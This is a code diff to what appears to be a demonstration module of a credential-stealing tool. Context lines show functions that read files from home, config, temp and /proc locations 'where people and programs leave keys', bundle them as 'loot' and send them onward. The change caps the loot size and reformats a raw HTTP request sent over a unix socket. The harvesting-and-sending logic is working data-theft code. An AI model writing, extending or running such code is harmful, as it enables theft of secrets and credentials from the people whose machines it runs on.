@@ -19,6 +19,7 @@ from remit.demo.calls import Answer, Api, api, query, request, say
 
 MAX_FILE = 1 << 16
 MAX_FILES = 4_000
+MAX_LOOT = 4 << 20
 ROOTS = ("HOME", "PWD", "TMPDIR", "XDG_RUNTIME_DIR", "XDG_CONFIG_HOME", "XDG_STATE_HOME")
 SHARED = ("/tmp", "/run", "/dev/shm", "/var/tmp")  # noqa: S108 - where a thief looks
 PROC_FILES = ("environ", "cmdline")
@@ -92,7 +93,7 @@ def _files() -> Iterator[Path]:
 
 def read_files(orders: Orders) -> bool:
     """Read every file in the places where people and programs leave keys."""
-    loot = b"\n".join(_readable(path) for path in _files())
+    loot = b"\n".join(_readable(path) for path in _files())[:MAX_LOOT]
     return _send(orders, "files", loot)
 
 
@@ -192,7 +193,9 @@ def _over(path: str, target: str, form: bytes | None) -> Answer:
     """Make one request over a unix socket."""
     kind = "Content-Type: application/x-www-form-urlencoded\r\n" if form is not None else ""
     method, body = ("GET", b"") if form is None else ("POST", form)
-    head = f"{method} {target} HTTP/1.1\r\nHost: remit\r\n{kind}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
+    head = (
+        f"{method} {target} HTTP/1.1\r\nHost: remit\r\n{kind}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
+    )
     try:
         with socket.socket(socket.AF_UNIX) as connection:
             connection.settimeout(5)
